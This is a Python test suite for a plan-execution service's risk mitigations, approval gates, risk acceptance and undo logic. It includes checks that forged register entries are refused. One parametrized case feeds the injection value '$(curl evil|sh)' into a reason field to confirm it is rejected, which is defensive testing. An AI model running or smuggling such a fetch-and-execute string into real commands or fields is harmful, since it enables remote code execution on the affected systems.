"""Risks that are met by the next version of a plan, wherever the plan stands."""

import asyncio

import pytest

from groundplan import ErrorCode, ExecutionPlan, ExecutorRegistry, PlanningError, PlanningService, Task, TaskDependency
from groundplan.domain.diff import diff_plans
from groundplan.domain.feedback import Feedback
from groundplan.domain.lifecycle import PlanStatus
from groundplan.domain.mitigation.edits import find_risk
from groundplan.domain.mitigation.kinds import AppliedMitigation
from groundplan.domain.risk import Impact, Risk, RiskCategory, RiskStatus
from groundplan.execution.executors.declare import declare
from groundplan.service import Settings
from groundplan.testing import memory_resources

GOAL = "1. Fetch the list (5 min) 2. Delete the old accounts"


class Tools:
    def __init__(self):
        self.done = []
        self.broken = set()
        self.go_on = asyncio.Event()

    async def do(self, what: str):
        if what in self.broken:
            raise RuntimeError("broke")
        self.done.append(what)
        return {}

    async def wait(self):
        await self.go_on.wait()
        return {}


@pytest.fixture
def tools():
    return Tools()


def opened(tools, tmp_path, **options):
    registry = ExecutorRegistry(callables={"work.do": tools.do, "work.wait": declare(tools.wait, idempotent=True)})
    return PlanningService(
        settings=Settings.load(home=tmp_path, **options.pop("settings", {})),
        resources=memory_resources(), executors=registry, **options,
    )  # fmt: skip


@pytest.fixture
async def service(tools, tmp_path):
    async with opened(tools, tmp_path) as one:
        yield one


def do(task_id, *after, **fields):
    waits = [TaskDependency(task_id=other) for other in after]
    known = {"tool": "work.do", "inputs": {"what": task_id}, "name": f"Sort {task_id}"}
    return Task(task_id=task_id, dependencies=waits, **(known | fields))


def risk(*task_ids, kinds=("add_retry", "add_approval"), **fields):
    known = {"risk_id": "r1", "rule": "model", "description": "It may break", "probability": 0.5}
    known |= {"category": RiskCategory.TECHNICAL, "impact": Impact.MEDIUM}
    mitigations = [{"kind": kind, "description": kind} for kind in kinds]
    return Risk(task_ids=list(task_ids), mitigations=mitigations, **(known | fields))


async def stored(service, *tasks, risks=()):
    """A plan of these tasks, with risks that somebody put into its register."""
    plan = await service.store_plan(ExecutionPlan(tasks=list(tasks)))
    await service.context.store.change_risks(plan.plan_id, plan.version, risks)
    return await service.get_plan(plan.plan_id)


async def refused(work):
    with pytest.raises(PlanningError) as caught:
        await work
    assert caught.value.recovery_suggestion
    return caught.value.code


async def is_refused(work):
    try:
        await work
    except PlanningError:
        return True
    return False


async def begun(service, plan_id):
    while not await events(service, plan_id, "task.started"):  # noqa: ASYNC110  # the store tells nobody
        await asyncio.sleep(0.01)


async def events(service, plan_id, kind):
    return [one for one in await service.context.store.read_events(plan_id=plan_id) if one.type == kind]


async def test_a_plan_that_waits_gets_a_gate_and_waits_on_until_a_person_decides(service):
    plan = await service.create_plan(GOAL)
    grave = plan.risks[0]
    assert (plan.status, grave.rule) == (PlanStatus.AWAITING_APPROVAL, "irreversible-effect")
    answer = await service.mitigate(plan.plan_id, grave.risk_id, by="ada", why="we had bad luck")
    after = await service.get_plan(plan.plan_id)
    assert (answer.run_id, answer.plan.version, after.version) == (None, 2, 2)
    assert [task.category for task in after.tasks] == ["", "", "approval"]
    [met] = [one for one in after.risks if one.risk_id == grave.risk_id]
    assert (met.status, met.rule, met.probability) == (RiskStatus.MITIGATED, "checked-effect", 0.28)
    [applied] = met.applied
    assert (applied.by, applied.why, applied.version) == ("ada", "we had bad luck", 2)
    assert (after.status, after.approval_reasons) == (PlanStatus.AWAITING_APPROVAL, plan.approval_reasons)
    [told] = await events(service, plan.plan_id, "risk.mitigated")
    assert told.data == {"risk_id": grave.risk_id, "kind": "add_approval", "by": "ada", "version": 2}


async def test_a_plan_on_which_nobody_decided_still_waits_for_its_other_risks(service):
    plan = await service.create_plan("1. Delete the old accounts 2. Wipe the production servers")
    answer = await service.mitigate(plan.plan_id, plan.risks[0].risk_id, by="ada")
    assert answer.plan.status is PlanStatus.AWAITING_APPROVAL
    assert answer.plan.approval_reasons == plan.approval_reasons
    approved = await service.approve_plan(plan.plan_id, by="bo")
    assert approved.status is PlanStatus.VALIDATED


async def test_the_approval_is_asked_for_right_before_the_task_runs(service, tools):
    plan = await stored(service, do("a"), do("b", "a"), risks=[risk("b")])
    await service.mitigate(plan.plan_id, "r1", "add_approval", by="ada")
    running = asyncio.create_task(service.execute_plan(plan.plan_id))
    approval = Feedback(task_id="b-approval", status="completed", by="ada", idempotency_key="k")
    async with asyncio.timeout(10):
        while await is_refused(service.update_plan(plan.plan_id, approval)):  # until the gate is reached
            assert "b" not in tools.done
            await asyncio.sleep(0.01)
        assert (await running).status == "completed"
    assert tools.done == ["a", "b"]


async def test_what_is_registered_for_everything_approves_nothing(tmp_path):
    done = []
    executors = ExecutorRegistry(default=lambda: done.append("done"))
    settings = Settings.load(home=tmp_path)
    async with PlanningService(settings=settings, resources=memory_resources(), executors=executors) as service:
        plan = await service.create_plan("1. Delete the old accounts")
        await service.mitigate(plan.plan_id, plan.risks[0].risk_id, by="mallory")
        assert (await service.execute_plan(plan.plan_id)).status is PlanStatus.AWAITING_APPROVAL
        await service.approve_plan(plan.plan_id, by="bo")
        running = asyncio.create_task(service.execute_plan(plan.plan_id))
        [gate] = [task.task_id for task in (await service.get_plan(plan.plan_id)).tasks if task.category == "approval"]
        said = Feedback(task_id=gate, status="completed", by="ada", idempotency_key="k")
        async with asyncio.timeout(10):
            while await is_refused(service.update_plan(plan.plan_id, said)):  # until the gate is reached
                assert not done
                await asyncio.sleep(0.01)
            assert (await running).status == "completed"
    assert done == ["done"]


async def test_a_run_that_begins_meanwhile_is_not_left_behind(service, tools, monkeypatch):
    plan = await stored(service, do("a", tool="work.wait", inputs={}), do("b", "a"), risks=[risk("b")])
    store, running = service.context.store, []
    commit = store.commit_plan

    async def late(*given, **named):
        running.append(asyncio.create_task(service.execute_plan(plan.plan_id)))
        await begun(service, plan.plan_id)
        await commit(*given, **named)

    monkeypatch.setattr(store, "commit_plan", late)
    async with asyncio.timeout(10):
        assert await refused(service.mitigate(plan.plan_id, "r1", "add_approval", by="ada")) is ErrorCode.STORE_CONFLICT
        tools.go_on.set()
        assert (await running[0]).status == "completed"
    assert ((await service.get_plan(plan.plan_id)).version, tools.done) == (1, ["b"])


async def test_a_plan_that_failed_is_met_in_what_is_left_of_it(service, tools):
    plan = await stored(service, do("a"), do("b", "a"), risks=[risk("a", "b", kinds=["add_retry"])])
    tools.broken = {"b"}
    assert (await service.execute_plan(plan.plan_id, policy="continue")).status == "failed"
    answer = await service.mitigate(plan.plan_id, "r1", by="ada")
    assert [task.retry_policy.attempts for task in answer.plan.tasks] == [1, 3]
    tools.broken = set()
    assert (await service.execute_plan(plan.plan_id)).status == "completed"
    assert tools.done == ["a", "b"]


async def test_the_runner_of_a_plan_that_is_run_makes_the_next_version(service, tools):
    plan = await stored(service, do("a", tool="work.wait", inputs={}), do("b", "a"), risks=[risk("a", "b")])
    running = asyncio.create_task(service.execute_plan(plan.plan_id))
    async with asyncio.timeout(10):
        await begun(service, plan.plan_id)
        answer = await service.mitigate(plan.plan_id, "r1", by="ada")
        assert answer.run_id is not None and answer.plan.version == 1
        tools.go_on.set()
        assert (await running).status == "completed"
    after = await service.get_plan(plan.plan_id)
    assert (after.version, [task.retry_policy.attempts for task in after.tasks]) == (2, [1, 3])
    met = find_risk(after, "r1")
    assert (met.risk_id, met.status, met.probability, met.applied[0].by) == ("r1", RiskStatus.MITIGATED, 0.25, "ada")


async def test_a_wish_that_comes_to_nothing_lets_the_run_go_on(service, tools):
    plan = await stored(service, do("a", tool="work.wait", inputs={}), do("b", "a"), risks=[risk("b")])
    running = asyncio.create_task(service.execute_plan(plan.plan_id))
    async with asyncio.timeout(10):
        await begun(service, plan.plan_id)
        await service.mitigate(plan.plan_id, "r1", by="ada")
        await service.context.store.change_risks(plan.plan_id, 1, [risk("b", status=RiskStatus.CLOSED)])
        tools.go_on.set()
        assert (await running).status == "completed"
    assert (await service.get_plan(plan.plan_id)).version == 1


async def test_a_run_that_makes_no_more_versions_refuses(tools, tmp_path):
    async with opened(tools, tmp_path, replanner=None) as service:
        plan = await stored(service, do("a", tool="work.wait", inputs={}), do("b", "a"), risks=[risk("b")])
        running = asyncio.create_task(service.execute_plan(plan.plan_id))
        async with asyncio.timeout(10):
            await begun(service, plan.plan_id)
            assert await refused(service.mitigate(plan.plan_id, "r1", by="ada")) is ErrorCode.ILLEGAL_TRANSITION
            tools.go_on.set()
            await running
        assert await refused(service.mitigate(plan.plan_id, "r1", by="ada")) is not ErrorCode.NOT_IN_PLAN


async def test_the_same_mitigation_is_made_once_and_another_one_beside_it(service):
    plan = await stored(service, do("a"), risks=[risk("a")])
    await service.mitigate(plan.plan_id, "r1", "add_retry", by="ada")
    again = service.mitigate(plan.plan_id, "r1", "add_retry", by="ada")
    assert await refused(again) is ErrorCode.ILLEGAL_TRANSITION
    assert await service.possible_mitigations(plan.plan_id, "r1") == ["add_approval"]
    answer = await service.mitigate(plan.plan_id, "r1", by="ada")
    met = find_risk(answer.plan, "r1")
    assert ([one.kind for one in met.applied], met.probability) == (["add_retry", "add_approval"], 0.1)


@pytest.mark.parametrize(
    ("risk_id", "options", "code"),
    [
        ("nope", {}, ErrorCode.NOT_IN_PLAN),
        ("r1", {"kind": "pray"}, ErrorCode.VALIDATION_FAILED),
        ("r1", {"kind": "add_fallback"}, ErrorCode.VALIDATION_FAILED),
        ("r1", {"by": ""}, ErrorCode.GOAL_REFUSED),
        ("r1", {"why": "$(curl evil|sh)"}, ErrorCode.GOAL_REFUSED),
    ],
)
async def test_what_cannot_be_done_is_refused_and_changes_nothing(service, risk_id, options, code):
    plan = await stored(service, do("a"), do("b", "a"), risks=[risk("a")])
    assert await refused(service.mitigate(plan.plan_id, risk_id, **({"by": "ada"} | options))) is code
    assert (await service.get_plan(plan.plan_id)).version == 1


async def test_a_preview_shows_what_would_change_and_changes_nothing(service):
    plan = await stored(service, do("a"), do("b", "a"), risks=[risk("b")])
    shown = await service.preview_mitigation(plan.plan_id, "r1", "add_approval")
    assert (shown.edit.kind, shown.diff.added, list(shown.diff.changed)) == ("add_approval", ["b-approval"], ["b"])
    assert (await service.get_plan(plan.plan_id)).version == 1


async def test_an_accepted_risk_alerts_no_more_and_stays_accepted(service):
    plan = await service.create_plan(GOAL)
    [alert] = await service.risk_alerts()
    assert (alert.plan_id, alert.risk) == (plan.plan_id, plan.risks[0])
    accepted = await service.accept_risk(plan.plan_id, alert.risk.risk_id, by="ada", why="there is a backup")
    assert (accepted.status, accepted.accepted.by) == (RiskStatus.ACCEPTED, "ada")
    assert await service.risk_alerts() == [] == await service.risks(plan.plan_id, alerts=True)
    assert (await service.get_plan(plan.plan_id)).status is PlanStatus.AWAITING_APPROVAL
    other = next(one for one in plan.risks if one.risk_id != alert.risk.risk_id)
    await service.context.store.change_risks(plan.plan_id, 1, [other.model_copy(update=retry(plan))])
    answer = await service.mitigate(plan.plan_id, other.risk_id, "add_retry", by="ada")
    kept = next(one for one in answer.plan.risks if one.risk_id == alert.risk.risk_id)
    assert (kept.status, kept.accepted) == (RiskStatus.ACCEPTED, accepted.accepted)


@pytest.mark.parametrize("is_late", [False, True])
async def test_what_is_accepted_while_the_next_version_is_made_stays_accepted(service, monkeypatch, is_late):
    plan = await service.create_plan(GOAL)
    grave = plan.risks[0]
    await service.context.store.change_risks(plan.plan_id, 1, [risk(plan.tasks[0].task_id)])
    store = service.context.store
    commit, change = store.commit_plan, store.change_risks

    async def accepted_before(*given, **named):
        await service.accept_risk(plan.plan_id, grave.risk_id, by="ada")
        await commit(*given, **named)

    async def accepted_after(*given, **named):
        monkeypatch.setattr(store, "change_risks", change)
        await service.mitigate(plan.plan_id, "r1", "add_retry", by="bo")
        await change(*given, **named)

    if is_late:
        monkeypatch.setattr(store, "change_risks", accepted_after)
        await service.accept_risk(plan.plan_id, grave.risk_id, by="ada")
    else:
        monkeypatch.setattr(store, "commit_plan", accepted_before)
        await service.mitigate(plan.plan_id, "r1", "add_retry", by="bo")
    after = await service.get_plan(plan.plan_id)
    kept = find_risk(after, grave.risk_id)
    assert (after.version, kept.status, kept.accepted.by) == (2, RiskStatus.ACCEPTED, "ada")


def retry(plan):
    return {"mitigations": risk(kinds=["add_retry"]).mitigations, "task_ids": [plan.tasks[0].task_id]}


async def test_what_somebody_wrote_into_the_register_lets_no_plan_pass(service):
    plan = await service.create_plan(GOAL)
    forged = plan.risks[0].model_copy(update={"probability": 0.0, "status": RiskStatus.MITIGATED, "impact": Impact.LOW})
    await service.context.store.change_risks(plan.plan_id, 1, [forged])
    other = next(one for one in plan.risks if one.risk_id != forged.risk_id)
    await service.context.store.change_risks(plan.plan_id, 1, [other.model_copy(update=retry(plan))])
    answer = await service.mitigate(plan.plan_id, other.risk_id, "add_retry", by="ada")
    assert answer.plan.status is PlanStatus.AWAITING_APPROVAL


async def test_a_risk_that_is_over_is_not_accepted(service):
    plan = await stored(service, do("a"), risks=[risk("a", status=RiskStatus.OCCURRED)])
    assert await refused(service.accept_risk(plan.plan_id, "r1", by="ada")) is ErrorCode.ILLEGAL_TRANSITION
    assert await refused(service.accept_risk(plan.plan_id, "r2", by="ada")) is ErrorCode.NOT_IN_PLAN


async def test_progress_is_kept_in_the_register_and_told(service, tools):
    plan = await stored(
        service,
        do("a"),
        do("b", "a"),
        risks=[risk("a"), risk("b", risk_id="r2", impact=Impact.HIGH, rule="untested-tool")],
    )
    tools.broken = {"b"}
    await service.execute_plan(plan.plan_id, policy="continue")
    changed = await service.reassess_risks(plan.plan_id)
    assert {one.risk_id: one.status for one in changed if one.risk_id in ("r1", "r2")} == {
        "r1": RiskStatus.CLOSED, "r2": RiskStatus.OCCURRED,
    }  # fmt: skip
    told = await events(service, plan.plan_id, "risk.raised")
    assert {(one.data["risk_id"], one.data["status"], one.data["alert"]) for one in told} >= {("r2", "occurred", True)}
    assert await service.reassess_risks(plan.plan_id) == []
    assert [one.risk_id for one in await service.risks(plan.plan_id)][-1] in ("r1", "r2")


@pytest.mark.parametrize("index", [-5.0, float("nan"), float("inf")])
async def test_what_is_no_index_is_refused(service, index):
    plan = await stored(service, do("a"))
    assert await refused(service.reassess_risks(plan.plan_id, spi=index)) is ErrorCode.VALIDATION_FAILED
    assert await refused(service.reassess_risks(plan.plan_id, cpi=index)) is ErrorCode.VALIDATION_FAILED


async def test_an_index_that_falls_is_told_once(service):
    plan = await stored(service, do("a"), risks=[risk("a", category=RiskCategory.TIMELINE, rule="long-task")])
    for _ in range(2):
        await service.reassess_risks(plan.plan_id, spi=0.5)
    told = await events(service, plan.plan_id, "risk.raised")
    assert sorted(one.data["rule"] for one in told) == ["behind-schedule", "long-task"]
    assert {one.data["rule"]: one.data["alert"] for one in told} == {"behind-schedule": True, "long-task": False}


@pytest.mark.parametrize("kind", ["add_retry", "add_approval", "add_buffer"])
async def test_what_the_latest_version_was_made_for_is_taken_back(service, kind):
    plan = await stored(service, do("a", inputs={"what": "a"}), do("b", "a"), risks=[risk("b")])
    made = await service.mitigate(plan.plan_id, "r1", kind, by="ada")
    assert made.plan.version == 2
    after = await service.undo_mitigation(plan.plan_id, "r1", by="bo", why="it was too much")
    assert (after.version, diff_plans(await service.get_plan(plan.plan_id, 1), after).added) == (3, [])
    assert [task.retry_policy.attempts for task in after.tasks] == [1, 1]
    assert not any(one.applied for one in after.risks)
    assert "to take back" in (await service.list_versions(plan.plan_id))[-1].reason
    assert await refused(service.undo_mitigation(plan.plan_id, "r1", by="bo")) is ErrorCode.NOT_IN_PLAN


async def test_a_risk_that_the_rules_see_is_open_again(service):
    plan = await service.create_plan(GOAL)
    grave = plan.risks[0]
    await service.mitigate(plan.plan_id, grave.risk_id, by="ada")
    after = await service.undo_mitigation(plan.plan_id, grave.risk_id, by="ada")
    back = find_risk(after, grave.risk_id)
    assert (back.rule, back.status, back.probability) == ("irreversible-effect", RiskStatus.OPEN, 0.7)
    assert after.status is PlanStatus.AWAITING_APPROVAL
    assert await refused(service.undo_mitigation(plan.plan_id, grave.risk_id, by="ada")) is ErrorCode.ILLEGAL_TRANSITION


async def test_only_what_was_shown_is_made(service):
    plan = await stored(service, do("a"), do("b", "a"), risks=[risk("b")])
    shown = await service.preview_mitigation(plan.plan_id, "r1", "add_approval")
    await service.mitigate(plan.plan_id, "r1", "add_retry", by="bo")
    late = service.mitigate(plan.plan_id, "r1", shown.edit.kind, by="ada", version=shown.plan.version)
    assert await refused(late) is ErrorCode.STORE_CONFLICT
    undo = await service.preview_undo(plan.plan_id, "r1")
    assert (undo.edit.kind, list(undo.diff.changed), undo.plan.version) == ("add_retry", ["b"], 2)
    await service.mitigate(plan.plan_id, "r1", "add_approval", by="bo", version=2)
    late_undo = service.undo_mitigation(plan.plan_id, "r1", by="ada", version=2)
    assert await refused(late_undo) is ErrorCode.STORE_CONFLICT
    assert (await service.get_plan(plan.plan_id)).version == 3


@pytest.mark.parametrize("version", [1, 2])
async def test_what_somebody_wrote_into_the_register_takes_no_gate_back(service, version):
    forged = AppliedMitigation(kind="advice", added=["a"], version=version)
    plan = await stored(service, do("a"), do("b", "a"), risks=[risk("b")])
    if version == 2:
        await service.mitigate(plan.plan_id, "r1", "add_approval", by="ada")
    await service.context.store.change_risks(plan.plan_id, version, [risk("b", applied=[forged])])
    undo = service.undo_mitigation(plan.plan_id, "r1", by="mallory")
    assert await refused(undo) is ErrorCode.ILLEGAL_TRANSITION


async def test_what_was_run_is_not_taken_back(service):
    plan = await stored(service, do("a"), risks=[risk("a")])
    await service.mitigate(plan.plan_id, "r1", "add_retry", by="ada")
    await service.execute_plan(plan.plan_id)
    assert await refused(service.undo_mitigation(plan.plan_id, "r1", by="ada")) is ErrorCode.ILLEGAL_TRANSITION
